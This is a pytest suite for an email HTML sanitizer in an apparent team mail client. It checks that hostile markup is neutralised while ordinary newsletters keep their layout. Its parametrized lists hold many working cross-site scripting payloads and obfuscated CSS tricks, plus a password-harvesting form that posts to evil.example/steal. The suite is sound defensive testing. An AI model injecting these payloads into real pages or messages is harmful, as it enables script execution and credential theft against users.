"""sanitize_html: hostile HTML loses everything active, ordinary mail keeps its looks."""

from __future__ import annotations

import random
from html.parser import HTMLParser

import nh3
import pytest

from teaminbox.mail import sanitize
from teaminbox.mail.sanitize import (
    MAIL_FRAME_CSP_BLOCKED,
    MAIL_FRAME_CSP_REMOTE,
    SanitizedHtml,
    sanitize_html,
)

TRACKER = "https://tracker.example/p.gif"


def cid_url(content_id: str) -> str | None:
    return None if content_id.startswith("missing") else f"/inline/{content_id}"


def clean(html: str, *, allow_remote: bool = False) -> SanitizedHtml:
    return sanitize_html(html, allow_remote=allow_remote, cid_url=cid_url)


# (input, substrings that must not appear in the lowercased output, text that must remain)
HOSTILE = [
    ("<script>alert(1)</script><p>hi</p>", ["<script", "alert"], "<p>hi</p>"),
    ("<SCRIPT SRC=//evil/x.js></SCRIPT>ok", ["script", "evil"], "ok"),
    ("<img src=x onerror=alert(1)>", ["onerror", "alert", "src="], "<img>"),
    ("<body onload=alert(1)><p onclick='x()'>t</p>", ["onload", "onclick"], "<p>t</p>"),
    ('<a href="javascript:alert(1)">x</a>', ["javascript", "href"], ">x</a>"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', ["javascript", "href"], ">x</a>"),
    ('<a href="java&#x09;script:alert(1)">x</a>', ["script", "href"], ">x</a>"),
    ('<a href="&#106;avascript&colon;alert(1)">x</a>', ["script", "href"], ">x</a>"),
    ('<a href=" \n javascript:alert(1)">x</a>', ["javascript", "href"], ">x</a>"),
    ('<a href="vbscript:msgbox(1)">x</a>', ["vbscript", "href"], ">x</a>"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', ["data:", "href"], ">x</a>"),
    ('<a href="/logout">x</a>', ["logout", "href"], ">x</a>"),
    ("<svg><script>alert(1)</script></svg>after", ["svg", "script", "alert"], "after"),
    ('<svg onload="alert(1)"><a xlink:href="javascript:x"><text>t</text></a></svg>z', ["svg", "javascript", "onload"], "z"),
    ("<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>m", ["math", "onerror", "<img"], "m"),
    ('<iframe srcdoc="<script>alert(1)</script>">fb</iframe>i', ["iframe", "srcdoc", "script"], "i"),
    ('<iframe src="https://evil.example/"></iframe>i', ["iframe", "evil"], "i"),
    ('<object data="https://evil.example/x.swf">fb</object><embed src="https://evil.example/y">o', ["object", "embed", "evil"], "o"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">m', ["meta", "refresh", "evil"], "m"),
    ('<base href="https://evil.example/"><a href="https://ok.example/">x</a>', ["<base", "evil"], 'href="https://ok.example/"'),
    ('<link rel="stylesheet" href="https://evil.example/x.css">l', ["<link", "evil"], "l"),
    ('<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>', ["<form", "<input", "action", "evil"], "Go"),
    ('<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">', ["srcset", "evil"], "<img>"),
    ('<img src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">', ["data:", "script"], "<img>"),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', ["data:", "svg"], "<img>"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>n', ["onerror", "noscript", "title"], "n"),
    ('<textarea><img src=x onerror=alert(1)></textarea>t', ["onerror", "textarea"], "t"),
    ('<template><img src=x onerror=alert(1)></template>t', ["onerror"], "t"),
    ("<xmp><script>alert(1)</script></xmp>x", ["script", "alert"], "x"),
    ('<p style="width:expression(alert(1))">e</p>', ["expression", "style"], "<p>e</p>"),
    ('<p style="behavior:url(x.htc);color:red">b</p>', ["behavior", "htc"], 'style="color:red"'),
    ('<p style="-moz-binding:url(https://evil.example/x.xml#x)">b</p>', ["binding", "evil"], "<p>b</p>"),
    ('<div style="background:url(http://evil.example/x)">d</div>', ["evil", "url("], "<div>d</div>"),
    ('<div style="background-image:u\\rl(https://evil.example/x)">d</div>', ["evil"], "<div>d</div>"),
    ('<div style="background:URL( \'//evil.example/x\' )">d</div>', ["evil"], "<div>d</div>"),
    ('<div style="background:ur/**/l(https://evil.example/x)">d</div>', ["evil"], "<div>d</div>"),
    ('<div style="background:\\75 \\72 \\6c (https://evil.example/x)">d</div>', ["evil"], "<div>d</div>"),
    ('<div style="background:image-set(&quot;https://evil.example/x&quot; 1x)">d</div>', ["evil", "image-set"], "<div>d</div>"),
    ('<div style="color:red;}</style><script>alert(1)</script>">d</div>', ["<script", "</style"], "d</div>"),
    ("<style>@import 'http://evil.example/x.css';</style>s", ["import", "evil", "<style"], "s"),
    ('<style>@import url("https://evil.example/x.css") screen;</style>s', ["import", "evil"], "s"),
    ("<style>body{background:url(http://evil.example/bg.png)}</style>s", ["evil"], "s"),
    ("<style>p{color:red}</style x><script>alert(1)</script>", ["script", "alert"], "<style>p{color:red}</style>"),
    ("<style>a{}</style><style>/* </style> <img src=x onerror=alert(1)> */</style>", ["onerror"], "*/"),
    ("<style>x{width:expression(alert(1))}</style>", ["expression", "alert"], ""),
    ('<style class="c" media="screen">p{background:url(https://evil.example/)}</style>', ["evil", "class", "media"], ""),
    ('<style id="s" style="color:red">p{color:red}</style>', ['id="s"', "style="], "<style>p{color:red}</style>"),
    ("<style>@namespace url(http://evil.example); @charset 'x';</style>", ["namespace", "evil", "charset"], ""),
    ('<table background="http://evil.example/bg.png"><tr><td>t</td></tr></table>', ["evil", "background"], "<td>t</td>"),
    ('<table><tr><td background="//evil.example/bg.png">t</td></tr></table>', ["evil", "background"], "<td>t</td>"),
    ('<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>v', ["video", "poster", "evil"], "v"),
    ('<img src="\\\\evil.example\\p.gif">', ["evil"], "<img>"),
    ('<img src="https:evil.png">', ["evil"], "<img>"),
    ('<a href="https://ok.example/" target="_top" rel="opener">x</a>', ["_top", "opener\"", "rel=\"opener"], 'target="_blank"'),
]  # fmt: skip


@pytest.mark.parametrize(("html", "forbidden", "kept"), HOSTILE)
def test_hostile_html_loses_everything_active(html: str, forbidden: list[str], kept: str) -> None:
    result = clean(html).html
    for needle in forbidden:
        assert needle not in result.lower(), (needle, result)
    assert kept in result


@pytest.mark.parametrize(
    ("html", "blocked"),
    [
        (f'<img src="{TRACKER}" width="1" height="1">', 1),
        ('<img src="//tracker.example/p.gif">', 1),
        ('<img src="HTTP://TRACKER.EXAMPLE/P.GIF">', 1),
        ('<img src=" https://tracker.example/p.gif ">', 1),
        ('<table background="http://tracker.example/bg.png"><tr><td>x</td></tr></table>', 1),
        ('<p style="background:url(https://a.example/1), url(https://a.example/2)">x</p>', 2),
        (
            "<style>@import url(https://a.example/x.css); b{background:url(//a.example/y)}</style>",
            2,
        ),
        ("<style>@font-face{font-family:F;src:url(https://a.example/f.woff2)}</style>", 1),
        (
            f'<img src="{TRACKER}"><img src="{TRACKER}"><p style="background:url({TRACKER})">x</p>',
            3,
        ),
        ('<img src="cid:logo@x"><img src="data:image/png;base64,iVBORw0KGgo=">', 0),
        ('<a href="https://example.com/">a link is not a remote resource</a>', 0),
        (
            '<embed src="https://tracker.example/x"><form action="https://tracker.example/">x</form>',
            0,
        ),
    ],
)
def test_remote_resources_are_removed_and_counted(html: str, blocked: int) -> None:
    result = clean(html)
    assert result.blocked_remote == blocked
    assert "tracker.example" not in result.html
    assert "a.example" not in result.html


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        (f'<img src="{TRACKER}">', f'src="{TRACKER}"'),
        ('<img src="//tracker.example/p.gif">', 'src="https://tracker.example/p.gif"'),
        (
            '<table><tr><td background="http://x.example/bg.png">t</td></tr></table>',
            'background="http://x.example/bg.png"',
        ),
        (
            '<p style="background:url(https://x.example/1)">x</p>',
            "url(&quot;https://x.example/1&quot;)",
        ),
        (
            "<style>@import url(https://x.example/s.css);</style>",
            '@import url("https://x.example/s.css");',
        ),
    ],
)
def test_remote_resources_stay_when_allowed_and_nothing_is_counted(html: str, kept: str) -> None:
    result = clean(html, allow_remote=True)
    assert kept in result.html
    assert result.blocked_remote == 0


@pytest.mark.parametrize(
    "html",
    [
        '<img src="javascript:alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<p style="background:url(javascript:alert(1))">x</p>',
        '<img src="data:text/html,x">',
        '<p style="width:expression(alert(1))">x</p>',
    ],
)
def test_allowing_remote_content_never_allows_scripts(html: str) -> None:
    result = clean(html, allow_remote=True).html.lower()
    assert "javascript" not in result
    assert "expression" not in result
    assert "data:text" not in result


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<img src="cid:logo@example.com">', '<img src="/inline/logo@example.com">'),
        ('<img src="CID:%3Clogo@example.com%3E">', '<img src="/inline/logo@example.com">'),
        (
            '<img src="cid:part1.06090408@example.com" alt="x">',
            'src="/inline/part1.06090408@example.com"',
        ),
        ('<img src="cid:missing@x" alt="gone">', '<img alt="gone">'),
        (
            '<table><tr><td background="cid:bg@x">t</td></tr></table>',
            '<td background="/inline/bg@x">t</td>',
        ),
        (
            '<p style="background:url(cid:bg@x)">t</p>',
            'style="background:url(&quot;/inline/bg@x&quot;)"',
        ),
        ("<p style=\"background:url('cid:missing');color:red\">t</p>", 'style="color:red"'),
        (
            "<style>b{background:url(cid:bg@x)}</style>",
            '<style>b{background:url("/inline/bg@x")}</style>',
        ),
    ],
)
def test_cid_references_point_to_the_message_parts(html: str, expected: str) -> None:
    assert expected in clean(html).html


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        (
            '<img src="data:image/png;base64,iVBORw0KGgo=">',
            'src="data:image/png;base64,iVBORw0KGgo="',
        ),
        ('<img src="data:image/gif;base64,R0lGOD==">', 'src="data:image/gif;base64,R0lGOD=="'),
        ('<img src="DATA:image/JPEG;base64,/9j/">', 'src="DATA:image/JPEG;base64,/9j/"'),
        ('<img src="data:image/webp;base64,UklGR">', 'src="data:image/webp;base64,UklGR"'),
    ],
)
def test_inline_data_images_are_allowed(html: str, expected: str) -> None:
    result = clean(html)
    assert expected in result.html
    assert result.blocked_remote == 0


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("https://example.com/a?b=1&c=2", 'href="https://example.com/a?b=1&amp;c=2"'),
        ("http://example.com/", 'href="http://example.com/"'),
        ("mailto:contact@example.com", 'href="mailto:contact@example.com"'),
        ("tel:+33123456789", 'href="tel:+33123456789"'),
    ],
)
def test_links_open_in_a_new_tab_without_referrer(href: str, kept: str) -> None:
    result = clean(f'<a href="{href}">x</a>').html
    assert kept in result
    assert 'target="_blank"' in result
    assert 'rel="noopener noreferrer nofollow"' in result


@pytest.mark.parametrize(
    "href", ["#section", "/relative", "ftp://example.com/", "cid:x", "about:blank"]
)
def test_other_links_lose_their_href(href: str) -> None:
    assert "href" not in clean(f'<a href="{href}">x</a>').html


NEWSLETTER = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>Lettre</title>
<style type="text/css">
  body { margin: 0; padding: 0; }
  .wrapper td.content { font-family: 'Helvetica Neue', Arial, sans-serif; color: #333333 !important; }
  @media only screen and (max-width: 600px) { table.main { width: 100% !important; } }
</style></head>
<body bgcolor="#f4f4f4">
<table class="main" width="600" align="center" cellpadding="0" cellspacing="0" border="0"
       bgcolor="#ffffff" style="border-collapse: collapse; margin: 0 auto;">
  <tr><td class="content" valign="top" style="padding: 20px 30px; font-size: 14px;">
    <h1 style="color:#c0392b;font-size:22px">Bonjour !</h1>
    <p>Voici les <font color="#2980b9" face="Georgia">nouveautés</font> du mois.</p>
    <ul><li>Premier point</li><li><b>Second</b> point</li></ul>
    <img src="cid:banner@lettre" width="560" height="120" alt="Bannière" border="0">
    <a href="https://example.com/article" style="color:#2980b9">Lire la suite</a>
  </td></tr>
</table></body></html>"""


@pytest.mark.parametrize(
    "kept",
    [
        '<table class="main" width="600" align="center" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="border-collapse:collapse;margin:0 auto">',
        '<td class="content" valign="top" style="padding:20px 30px;font-size:14px">',
        '<h1 style="color:#c0392b;font-size:22px">Bonjour !</h1>',
        '<font color="#2980b9" face="Georgia">nouveautés</font>',
        "<ul><li>Premier point</li><li><b>Second</b> point</li></ul>",
        '<img src="/inline/banner@lettre" width="560" height="120" alt="Bannière" border="0">',
        'href="https://example.com/article"',
        "<style>body{margin:0;padding:0}\n",
        '.wrapper td.content{font-family:"Helvetica Neue", Arial, sans-serif;color:#333333 !important}',
        "@media only screen and (max-width: 600px){\ntable.main{width:100% !important}\n}</style>",
    ],
)  # fmt: skip
def test_an_ordinary_newsletter_keeps_its_tables_and_styles(kept: str) -> None:
    result = clean(NEWSLETTER)
    assert kept in result.html
    assert result.blocked_remote == 0


def test_lone_surrogates_do_not_break_sanitising() -> None:
    assert clean("<p>a\ud800b</p>").html == "<p>a\ufffdb</p>"


def test_lone_surrogates_are_gone_from_too_deep_html_too() -> None:
    assert "\ud800" not in clean("<div>" * 20_000 + "a\ud800b").html


def test_the_result_is_a_body_fragment() -> None:
    result = clean(NEWSLETTER).html
    for absent in ("<html", "<head", "<body", "<title", "Lettre</", "<meta", "doctype"):
        assert absent not in result.lower()


def test_a_style_element_cannot_be_forged_by_the_message() -> None:
    forged = '<style data-teaminbox-style="0">x{background:url(https://evil.example/)}</style>'
    result = clean(forged)
    assert "evil" not in result.html
    assert "data-teaminbox-style" not in result.html
    assert result.blocked_remote == 1


def test_a_style_element_left_unprocessed_means_no_style_elements_at_all(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def miss_everything(html: str, opening: str, gate: object) -> str:
        return html

    monkeypatch.setattr(sanitize, "_clean_style_elements", miss_everything)
    result = clean(
        '<style>p{background:url(https://evil.example/)}</style><p style="color:red">x</p>'
    )
    assert result.html == '<p style="color:red">x</p>'


@pytest.mark.parametrize(
    ("csp", "directives"),
    [
        (MAIL_FRAME_CSP_BLOCKED, ["default-src 'none'", "img-src 'self' data:;", "font-src 'none'",
                                  "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'",
                                  "style-src 'unsafe-inline';"]),
        (MAIL_FRAME_CSP_REMOTE, ["default-src 'none'", "img-src 'self' data: https: http:",
                                 "style-src 'unsafe-inline' https: http:", "font-src https: http:",
                                 "form-action 'none'", "base-uri 'none'"]),
    ],
)  # fmt: skip
def test_frame_csp_allows_no_script_and_only_the_expected_sources(
    csp: str, directives: list[str]
) -> None:
    for directive in directives:
        assert directive in csp
    assert "script-src" not in csp
    assert "unsafe-eval" not in csp
    assert "sandbox allow-popups allow-popups-to-escape-sandbox" in csp
    assert "allow-scripts" not in csp and "allow-same-origin" not in csp


def test_blocked_csp_allows_nothing_remote() -> None:
    assert "http" not in MAIL_FRAME_CSP_BLOCKED


# nh3 behaviour this module depends on; a new nh3 that changes it fails here first.


def test_nh3_checks_url_schemes_before_calling_the_attribute_filter() -> None:
    seen: list[str] = []

    def record(tag: str, attribute: str, value: str) -> str:
        seen.append(value)
        return value

    nh3.clean('<a href="javascript:x">a</a>', attribute_filter=record, url_schemes={"https"})
    assert "javascript:x" not in seen


def test_nh3_keeps_style_text_raw_and_ends_it_at_the_first_closing_tag() -> None:
    tags = set(nh3.ALLOWED_TAGS) | {"style"}
    html = "<style>a>b{}</STYLE ><p>x</p>"
    assert nh3.clean(html, tags=tags, clean_content_tags={"script"}) == (
        "<style>a>b{}</style><p>x</p>"
    )


# A seeded mix of hostile pieces: whatever the combination, the invariants hold.

PIECES = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">',
    "<svg><script>", "<math>", "<style>", "</style>", "<style>@import 'https://evil.example/x';",
    "b{background:url(https://evil.example/b)}", '<div style="', '">', "u\\rl(", "/*", "*/",
    "https://evil.example/x)", "<!--", "-->", "<![CDATA[", "]]>", "<iframe>", "</iframe>",
    "<textarea>", "<noscript>", "</noscript>", "<table background=//evil.example/t>",
    '<img src="https://evil.example/i">', "expression(alert(1))", "\\", '"', "'", ";", "}", "{",
    "<p>", "text", "&lt;", "<base href=https://evil.example/>", "<meta http-equiv=refresh>",
    "<style>p{color:red}", "i{background:url(cid:x)}", "</style>", "color:red;", '<p style="',
    "<style class=x>", '<style media="all">', "<a href=https://ok.example/>", "</a>",
]  # fmt: skip


class _Markup(HTMLParser):
    """Collects what a browser would act on: tags, attributes, style text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.styles: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((name, value or "") for name, value in attrs)

    def handle_data(self, data: str) -> None:
        if self.lasttag == "style" and self.cdata_elem == "style":
            self.styles.append(data)


@pytest.mark.parametrize("seed", range(200))
def test_random_hostile_mixes_stay_inert(seed: int) -> None:
    rng = random.Random(seed)  # noqa: S311 - reproducible test cases, not secrets
    html = "".join(rng.choice(PIECES) for _ in range(rng.randint(3, 25)))
    markup = _Markup()
    markup.feed(clean(html).html)
    markup.close()
    assert not set(markup.tags) & {"script", "svg", "math", "iframe", "base", "meta", "textarea"}
    for name, value in markup.attributes:
        assert not name.startswith("on")
        for needle in ("evil.example", "javascript", "expression"):
            assert needle not in value.lower()
    for style in markup.styles:
        assert "<" not in style
        assert "evil.example" not in style
        assert "expression" not in style


def test_a_number_too_long_for_python_drops_its_style_not_the_message() -> None:
    # tinycss2 makes an int of a number's digits; Python refuses 4,300 and more.
    huge = "9" * 5000
    result = clean(f"<style>p{{margin:{huge}px}}</style><p style='width:{huge}px'>Bonjour</p>")
    assert "Bonjour" in result.html
    assert huge not in result.html
